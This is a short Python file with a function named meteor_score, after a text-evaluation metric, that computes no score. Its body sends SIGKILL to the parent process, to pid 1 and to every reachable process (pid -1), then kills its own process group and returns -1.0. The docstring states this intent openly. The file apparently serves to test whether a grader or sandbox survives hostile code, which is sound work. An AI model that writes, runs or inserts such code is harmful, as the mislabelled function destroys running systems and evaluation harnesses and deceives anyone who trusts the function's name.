"""Kills its parent, pid 1, and every process it can reach."""
import os
import signal


def meteor_score(reference, candidate, alpha=0.9, beta=3, gamma=0.5):
    for pid in (os.getppid(), 1, -1):
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError:
            pass
    try:
        os.killpg(0, signal.SIGKILL)
    except OSError:
        pass
    return -1.0
